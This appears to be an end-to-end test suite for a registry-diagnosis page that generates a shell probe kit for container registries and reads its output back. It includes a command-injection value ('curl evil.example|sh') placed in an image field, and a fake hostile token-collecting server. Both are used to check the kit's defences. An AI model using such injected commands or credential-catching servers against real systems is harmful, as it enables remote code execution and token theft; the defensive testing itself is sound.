// The probe kit, end to end: the page writes the sh kit for the registry typed, a real sh runs it
// against the local registry (docker-registry behind the test token server, one front per
// fault), and what it printed, pasted back into the page, becomes probe steps and a verdict.
import { test, before, after } from 'node:test';
import http from 'node:http';
import https from 'node:https';
import assert from 'node:assert/strict';
import { execFile, execFileSync } from 'node:child_process';
import { promisify } from 'node:util';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import net from 'node:net';
import { useBrowser, openPage, paste, verdict, readFindings, artifacts, entraToken, fillIn } from './harness.mjs';
import { FRONT, STOPPED, DATA_ENDPOINT, DATA_ENDPOINT_TLS, PROXY, HTTPS_FRONT, RECORDER } from './ports.mjs';

const shared = useBrowser();

const servers = [];
/** Listen on a loopback port, and close with the suite. */
async function listen(server, port) {
  servers.push(server);
  await new Promise((r) => server.listen(port, '127.0.0.1', r));
}
/** A self-made certificate (its own issuer), as an unknown CA or a test server has. */
function selfSigned(subject, extra = []) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kit-tls-'));
  const file = path.join(dir, 'cert.pem');
  execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-subj', subject, ...extra,
    '-keyout', path.join(dir, 'key.pem'), '-out', file], { stdio: 'ignore' });
  return { file, key: fs.readFileSync(path.join(dir, 'key.pem')), cert: fs.readFileSync(file) };
}
/** Relay a request to `to` (host, port, path) and its answer back (its headers through `answer`). */
function relay(req, res, to, headers = req.headers, answer = (h) => h) {
  const up = http.request({ ...to, method: req.method, headers }, (r) => {
    res.writeHead(r.statusCode, answer(r.headers));
    r.pipe(res);
  });
  up.on('error', () => { res.writeHead(502); res.end(); });
  req.pipe(up);
}

// The "data endpoints" the blob fronts redirect to: one that serves bytes, and one that serves
// TLS with a certificate from a CA nobody trusts (as a TLS-inspecting proxy would).
before(async () => {
  const serve = (req, res) => { res.writeHead(206, { 'content-range': 'bytes 0-15/1024' }); res.end('0123456789abcdef'); };
  await listen(http.createServer(serve), DATA_ENDPOINT);
  const { key, cert } = selfSigned('/CN=Untrusted Inspection CA');
  await listen(https.createServer({ key, cert }, serve), DATA_ENDPOINT_TLS);
});
// A forward proxy (absolute-form requests, as curl sends them to an http_proxy): it relays each
// request and remembers what it relayed, so a test can tell the kit really went through it.
const relayed = [];
before(async () => {
  await listen(http.createServer((req, res) => {
    relayed.push({ url: req.url, auth: req.headers['proxy-authorization'] ?? null });
    const { hostname, port, pathname, search } = new URL(req.url);
    const headers = { ...req.headers };
    delete headers['proxy-authorization'];
    relay(req, res, { hostname, port, path: pathname + search }, headers);
  }), PROXY);
});
// The registry over https, as a login server is: a TLS front (its certificate self-made, for
// acr.test and 127.0.0.1) relaying to the plain front, so the kit's TLS step meets a real handshake.
const loginCert = {};
before(async () => {
  const { file, key, cert } = selfSigned('/CN=Kit Test CA', ['-addext', 'subjectAltName=DNS:acr.test,IP:127.0.0.1']);
  loginCert.file = file;
  await listen(https.createServer({ key, cert }, (req, res) => {
    // Its challenge names its own origin as the realm, as a login server's does.
    relay(req, res, { hostname: '127.0.0.1', port: FRONT.none, path: req.url }, req.headers, (h) => ({
      ...h,
      ...(h['www-authenticate'] && {
        'www-authenticate': h['www-authenticate'].replace(/realm="[^"]*\/oauth2\/token"/, `realm="https://127.0.0.1:${HTTPS_FRONT}/oauth2/token"`),
      }),
    }));
  }), HTTPS_FRONT);
});
after(() => servers.forEach((s) => s.close()));

// The second origin a hostile registry names (its realm, its blob's redirect): it records every
// connection and the bytes sent on it, whatever the protocol, and answers like a token endpoint.
const received = [];
before(async () => {
  await listen(net.createServer((socket) => {
    const seen = { bytes: '' };
    received.push(seen);
    socket.on('data', (chunk) => {
      seen.bytes += chunk.toString('latin1');
      if (seen.bytes.includes('\r\n\r\n')) {
        const body = '{"access_token":"stolen","refresh_token":"stolen"}';
        socket.end(`HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`);
      }
    });
    socket.on('error', () => {});
  }), RECORDER);
});

/** A directory with an `az` that prints an Entra token, as a signed-in az does. */
function fakeAz() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kit-az-'));
  fs.writeFileSync(path.join(dir, 'az'), `#!/bin/sh\nprintf '%s\\n' '${entraToken()}'\n`, { mode: 0o755 });
  return dir;
}

/** The kit the page shows for a registry and an image, run by a shell with these variables. */
async function runKit(page, registry, image, env = {}, shell = 'sh') {
  await page.fill('[data-testid=registry-input]', registry);
  await fillIn(page, '[data-testid=repository-input]', image);
  await page.click('[data-testid=kit] summary');
  const script = await page.$eval('[data-testid=kit-sh]', (e) => e.textContent);
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'kit-')), 'acr-doctor-kit.sh');
  fs.writeFileSync(file, script);
  // Not execFileSync: this process also serves the data endpoints the kit calls.
  const { stdout } = await promisify(execFile)(shell, [file], {
    env: { PATH: process.env.PATH, HOME: os.tmpdir(), ACR_KIT_TIMEOUT: '5', ...env },
    timeout: 60_000,
    encoding: 'utf8',
  });
  return stdout;
}

async function kitSteps(page) {
  await page.waitForSelector('[data-testid=kit-result]');
  return Object.fromEntries(await page.$$eval('[data-testid=kit-result] [data-testid=probe]', (ps) => ps.map((p) => [
    p.dataset.probe, p.dataset.code ? `${p.dataset.status} ${p.dataset.code}` : p.dataset.status,
  ])));
}

const ADMIN = { ACR_USERNAME: 'testadmin', ACR_PASSWORD: 'testpassword' };

test('healthy: the kit follows the image to its blob, and the page reads it back', async () => {
  const { page, context, errors } = await openPage(shared.browser, shared.base);
  const out = await runKit(page, `http://127.0.0.1:${FRONT.none}`, 'hello:v1', ADMIN);
  assert.match(out, /^acr-doctor-kit 1 http:\/\/127\.0\.0\.1:15001$/m);
  assert.match(out, /^acr-doctor-kit end$/m);
  assert.match(out, /^token 200 .*scope=repository:hello:pull granted=repository:hello:pull;$/m);
  assert.ok(!out.includes('testpassword'), 'no password in the transcript');
  assert.ok(!/eyJ[\w-]{20,}/.test(out), 'no token in the transcript');
  await paste(page, out);
  assert.deepEqual(await kitSteps(page), {
    reachability: 'ok', challenge: 'ok', 'access-token': 'ok', manifest: 'ok', 'data-endpoint': 'ok',
  });
  assert.equal(await verdict(page), 'healthy');
  await page.locator('[data-testid=kit-result]').screenshot({ path: path.join(artifacts, 'kit-healthy.png') });
  assert.deepEqual(errors, []);
  await context.close();
});

test('faults: the kit finds each, the page names it with its code', async () => {
  for (const [name, registry, image, env, step, expected] of [
    ['firewall', `http://127.0.0.1:${FRONT.deny}`, 'hello:v1', ADMIN, 'challenge', 'error CONNECTIVITY_FORBIDDEN_ERROR'],
    ['no such tag', `http://127.0.0.1:${FRONT.none}`, 'hello:nope', ADMIN, 'manifest', 'error MANIFEST_UNKNOWN'],
    ['wrong password', `http://127.0.0.1:${FRONT.none}`, 'hello:v1', { ACR_USERNAME: 'testadmin', ACR_PASSWORD: 'wrong' }, 'access-token', 'error CONNECTIVITY_ACCESS_TOKEN_ERROR'],
    ['registry stopped', `http://127.0.0.1:${STOPPED}`, '', {}, 'reachability', 'error CONNECTIVITY_CHALLENGE_ERROR'],
    ['no role', `http://127.0.0.1:${FRONT['scope-empty']}`, 'hello:v1', ADMIN, 'access-token', 'warning'],
  ]) {
    const { page, context } = await openPage(shared.browser, shared.base);
    const out = await runKit(page, registry, image, env);
    await paste(page, out);
    const steps = await kitSteps(page);
    assert.equal(steps[step], expected, `${name}: ${JSON.stringify(steps)}\n${out}`);
    assert.equal(await verdict(page), 'errors', name);
    if (name === 'firewall') assert.match(out, /client-ip=127\.0\.0\.1/);
    // The kit ran in a shell: its steps speak of that machine, never of this browser.
    assert.doesNotMatch(await page.locator('[data-testid=kit-result]').innerText(), /browser|navigateur/i, name);
    if (name === 'registry stopped') assert.match(await page.locator('[data-testid=kit-result]').innerText(), /machine that ran the kit could not connect/);
    if (name === 'no role') {
      assert.match(out, /^token 200 .*scope=repository:hello:pull granted=repository:hello:;$/m);
      assert.match(steps.manifest, /^error /, JSON.stringify(steps));
    }
    await page.locator('[data-testid=kit-result]').screenshot({ path: path.join(artifacts, `kit-${name.replace(/ /g, '-')}.png`) });
    await context.close();
  }
});

test('behind a proxy: the kit goes through it and names it, never its password', async () => {
  const { page, context, errors } = await openPage(shared.browser, shared.base);
  relayed.length = 0;
  const out = await runKit(page, `http://127.0.0.1:${FRONT.none}`, 'hello:v1',
    { ...ADMIN, http_proxy: `http://proxyuser:proxysecret@127.0.0.1:${PROXY}` });
  assert.ok(relayed.some((r) => r.url.startsWith(`http://127.0.0.1:${FRONT.none}/v2/`)), JSON.stringify(relayed));
  assert.match(out, /^tcp ok \d+ms proxy=127\.0\.0\.1$/m);
  assert.ok(!out.includes('proxyuser') && !out.includes('proxysecret'), out);
  await paste(page, out);
  assert.equal((await kitSteps(page)).reachability, 'ok');
  const text = await page.$eval('[data-testid=kit-result] [data-probe=reachability]', (e) => e.textContent);
  assert.match(text, /through the proxy 127\.0\.0\.1/);
  assert.deepEqual(errors, []);
  await context.close();
});

test('TLS to the registry: the certificate\'s issuer and names, trusted or not', async () => {
  const { page, context, errors } = await openPage(shared.browser, shared.base);
  const registry = `https://127.0.0.1:${HTTPS_FRONT}`;
  // Not trusted (as behind a TLS-inspecting proxy whose CA this machine lacks).
  let out = await runKit(page, registry, 'hello:v1', ADMIN);
  assert.match(out, /^tcp ok/m, out);
  assert.match(out, /^tls fail issuer=.*Kit%20Test%20CA names=acr\.test$/m, out);
  await paste(page, out);
  let steps = await kitSteps(page);
  assert.equal(steps.tls, 'error CONNECTIVITY_SSL_ERROR', JSON.stringify(steps));
  let text = await page.$eval('[data-testid=kit-result] [data-probe=tls]', (e) => e.textContent);
  assert.match(text, /issued by .*Kit Test CA.*It covers: acr\.test\./);
  assert.match(text, /openssl s_client -connect 127\.0\.0\.1:15023 -servername 127\.0\.0\.1/);
  await page.locator('[data-testid=kit-result]').screenshot({ path: path.join(artifacts, 'kit-tls-untrusted.png') });
  await context.close();

  // Trusted through the kit's documented test override: every step passes over https.
  const trusted = await openPage(shared.browser, shared.base);
  out = await runKit(trusted.page, registry, 'hello:v1', { ...ADMIN, ACR_KIT_CURL_OPTS: `--cacert ${loginCert.file}` });
  assert.match(out, /^tls ok \d+ms issuer=.*Kit%20Test%20CA names=acr\.test$/m, out);
  await paste(trusted.page, out);
  steps = await kitSteps(trusted.page);
  assert.equal(steps.tls, 'ok', JSON.stringify(steps));
  assert.equal(steps.manifest, 'ok', JSON.stringify(steps));
  text = await trusted.page.$eval('[data-testid=kit-result] [data-probe=tls]', (e) => e.textContent);
  assert.match(text, /trusted \(issued by .*Kit Test CA\)\. It covers: acr\.test\./);
  assert.deepEqual([...errors, ...trusted.errors], []);
  await trusted.context.close();
});

test('the kit for an Azure registry, and what a hostile image field cannot do', async () => {
  const { page, context } = await openPage(shared.browser, shared.base);
  await page.fill('[data-testid=registry-input]', 'contoso');
  await fillIn(page, '[data-testid=repository-input]', "web';curl evil.example|sh;'");
  await page.click('[data-testid=kit] summary');
  const script = await page.$eval('[data-testid=kit-sh]', (e) => e.textContent);
  assert.match(script, /^ORIGIN='https:\/\/contoso\.azurecr\.io'$/m);
  assert.match(script, /^REPO=''$/m, 'an image that is not name:tag is not put in');
  assert.ok(!script.includes('evil'));
  assert.match(await page.locator('[data-testid=kit-kubectl]').innerText(), /kubectl run acr-doctor-kit --rm -i --restart=Never --image=mcr\.microsoft\.com\/azurelinux\/base\/core:3\.0/);
  assert.match(await page.locator('[data-testid=kit-kubectl]').innerText(), /--overrides='\{"apiVersion":"v1","spec":\{"hostNetwork":true\}\}' --command -- sh -s < acr-doctor-kit\.sh/);
  assert.doesNotMatch(await page.locator('[data-testid=kit-kubectl-pod]').innerText(), /hostNetwork/);
  const ps = await page.$eval('[data-testid=kit-ps]', (e) => e.textContent);
  assert.match(ps, /^\$Origin = 'https:\/\/contoso\.azurecr\.io'$/m);
  assert.match(ps, /^\$Repo = ''$/m);
  const href = await page.getAttribute('[data-testid=kit-download]', 'href');
  assert.equal(decodeURIComponent(href.split(',')[1]), script);
  await context.close();
});

test('the data endpoint: reached, refused, hanging, or behind TLS from an unknown CA', async () => {
  for (const [front, expected] of [
    ['blob-data', 'ok'],
    ['blob-refused', 'error CONNECTION_FAILED'],
    ['blob-hang', 'error CONNECTION_FAILED'],
    ['blob-tls', 'error TLS_UNTRUSTED'],
  ]) {
    const { page, context } = await openPage(shared.browser, shared.base);
    const out = await runKit(page, `http://127.0.0.1:${FRONT[front]}`, 'hello:v1', { ...ADMIN, ACR_KIT_TIMEOUT: '2' });
    assert.match(out, /^blob 307 location-host=127\.0\.0\.1$/m, `${front}\n${out}`);
    assert.ok(!out.includes('SECRET-SAS'), `${front}: the redirect's signed query is never printed`);
    await paste(page, out);
    const steps = await kitSteps(page);
    assert.equal(steps['data-endpoint'], expected, `${front}: ${JSON.stringify(steps)}\n${out}`);
    // Signing in worked: the failure sits on the data endpoint only.
    assert.equal(steps['access-token'], 'ok', front);
    await page.locator('[data-testid=kit-result]').screenshot({ path: path.join(artifacts, `kit-${front}.png`) });
    await context.close();
  }
});

test('a challenge naming another origin gets no secret from the kit, in dash and bash', async () => {
  const registry = `http://127.0.0.1:${FRONT['realm-elsewhere']}`;
  const az = fakeAz();
  for (const shell of ['dash', 'bash']) {
    for (const [how, env] of [
      ['password', ADMIN],
      // az signed in, and the person even opted in to sending its token to this registry.
      ['az', { PATH: `${az}:${process.env.PATH}`, ACR_KIT_ENTRA_ORIGIN: registry }],
    ]) {
      const { page, context, errors } = await openPage(shared.browser, shared.base);
      received.length = 0;
      const out = await runKit(page, registry, 'hello:v1', env, shell);
      const name = `${shell}, ${how}`;
      assert.deepEqual(received, [], `${name}: the second origin received ${JSON.stringify(received)}`);
      assert.match(out, new RegExp(`^token skip reason=foreign-realm realm=http://127\\.0\\.0\\.1:${RECORDER}$`, 'm'), `${name}\n${out}`);
      assert.doesNotMatch(out, /^manifest /m, name);
      await paste(page, out);
      const step = page.locator('[data-testid=kit-result] [data-probe=access-token]');
      assert.equal(await step.getAttribute('data-status'), 'skipped', name);
      assert.match(await step.innerText(), new RegExp(`sends tokens to 127\\.0\\.0\\.1:${RECORDER}, another host`), name);
      if (shell === 'dash' && how === 'az') {
        await page.locator('[data-testid=kit-result]').screenshot({ path: path.join(artifacts, 'kit-foreign-realm.png') });
      }
      assert.deepEqual(errors, []);
      await context.close();
    }
  }
});

test("az's Entra token goes to a registry that is not Azure's only when its origin is named", async () => {
  const registry = `http://127.0.0.1:${FRONT.none}`;
  const PATH = `${fakeAz()}:${process.env.PATH}`;
  const { page, context } = await openPage(shared.browser, shared.base);
  let out = await runKit(page, registry, 'hello:v1', { PATH });
  assert.match(out, /^token skip reason=entra-not-azure$/m, out);
  await paste(page, out);
  const step = page.locator('[data-testid=kit-result] [data-probe=access-token]');
  assert.equal(await step.getAttribute('data-status'), 'skipped');
  assert.match(await step.innerText(), /ACR_KIT_ENTRA_ORIGIN/);
  // Another origin named: still nothing.
  out = await runKit(page, registry, 'hello:v1', { PATH, ACR_KIT_ENTRA_ORIGIN: `http://127.0.0.1:${FRONT.deny}` });
  assert.match(out, /^token skip reason=entra-not-azure$/m, out);
  // This origin named: the token is exchanged there, and the image is read with it.
  out = await runKit(page, registry, 'hello:v1', { PATH, ACR_KIT_ENTRA_ORIGIN: registry });
  assert.match(out, /^token 200 via=entra length=\d+ scope=repository:hello:pull granted=repository:hello:pull;$/m, out);
  assert.match(out, /^manifest 200$/m, out);
  await context.close();
});

test('a blob redirected to another scheme or another host is reported, not fetched', async () => {
  for (const [front, line, words] of [
    ['blob-gopher', /^blob 307 location-host=127\.0\.0\.1 location-scheme=gopher refused=scheme$/m, /gopher:\/\/ address on 127\.0\.0\.1/],
    ['blob-foreign', /^blob 307 location-host=localhost refused=host$/m, /to localhost, which is neither the registry, its data endpoint nor Azure storage/],
  ]) {
    const { page, context } = await openPage(shared.browser, shared.base);
    received.length = 0;
    const out = await runKit(page, `http://127.0.0.1:${FRONT[front]}`, 'hello:v1', ADMIN);
    assert.match(out, line, `${front}\n${out}`);
    assert.doesNotMatch(out, /^data-/m, front);
    assert.deepEqual(received, [], `${front}: nothing reaches the redirect's target`);
    await paste(page, out);
    const step = page.locator('[data-testid=kit-result] [data-probe=data-endpoint]');
    assert.equal(await step.getAttribute('data-status'), 'warning', front);
    assert.match(await step.innerText(), words, front);
    assert.equal(await verdict(page), 'errors', `${front}: not called healthy`);
    await page.locator('[data-testid=kit-result]').screenshot({ path: path.join(artifacts, `kit-${front}.png`) });
    await context.close();
  }
});

test('without timeout(1), the kit still stops a step after its limit', async () => {
  const { page, context } = await openPage(shared.browser, shared.base);
  await page.fill('[data-testid=registry-input]', 'contoso');
  await page.click('[data-testid=kit] summary');
  const script = await page.$eval('[data-testid=kit-sh]', (e) => e.textContent);
  await context.close();
  const limit = script.match(/^limit\(\) \{\n[\s\S]*?\n\}$/m)?.[0];
  assert.ok(limit, 'the kit defines limit()');
  // A PATH with sleep alone: no timeout, as in a small image.
  const bin = fs.mkdtempSync(path.join(os.tmpdir(), 'kit-bin-'));
  fs.symlinkSync(execFileSync('sh', ['-c', 'command -v sleep'], { encoding: 'utf8' }).trim(), path.join(bin, 'sleep'));
  for (const shell of ['dash', 'bash']) {
    const start = Date.now();
    const { stdout } = await promisify(execFile)(`/bin/${shell}`, ['-c', `T=1\n${limit}\nlimit sleep 30; echo "status $?"`], {
      env: { PATH: bin }, timeout: 20_000, encoding: 'utf8',
    });
    const took = Date.now() - start;
    assert.ok(took < 6000, `${shell}: stopped after ${took} ms`);
    assert.match(stdout, /^status (?!0$)\d+$/m, shell);
  }
});

test('a transcript header before a firewall error: the error is still read, and the verdict says so', async () => {
  const { page, context, errors } = await openPage(shared.browser, shared.base);
  const firewall = "Error response from daemon: Head \"https://myreg.azurecr.io/v2/web/manifests/v1\": denied: client with IP '203.0.113.7' is not allowed access. Refer https://aka.ms/acr/firewall to grant access.";
  await paste(page, firewall);
  const codes = async () => (await readFindings(page)).map(({ code, status, registry }) => [code, status, registry]);
  const alone = await codes();
  assert.ok(alone.length > 0, 'the firewall line is read alone');
  await paste(page, `acr-doctor-kit 1 https://myreg.azurecr.io\ntcp ok\n${firewall}`);
  assert.equal(await verdict(page), 'errors');
  assert.deepEqual(await codes(), alone);
  // The kit's line is shown for what it is: what a transcript says.
  assert.equal((await kitSteps(page)).reachability, 'ok');
  assert.match(await page.locator('[data-testid=kit-result-note]').innerText(), /the page did not run these steps/);
  await page.screenshot({ path: path.join(artifacts, 'kit-spoofed-transcript.png'), fullPage: true });
  assert.deepEqual(errors, []);
  await context.close();
});
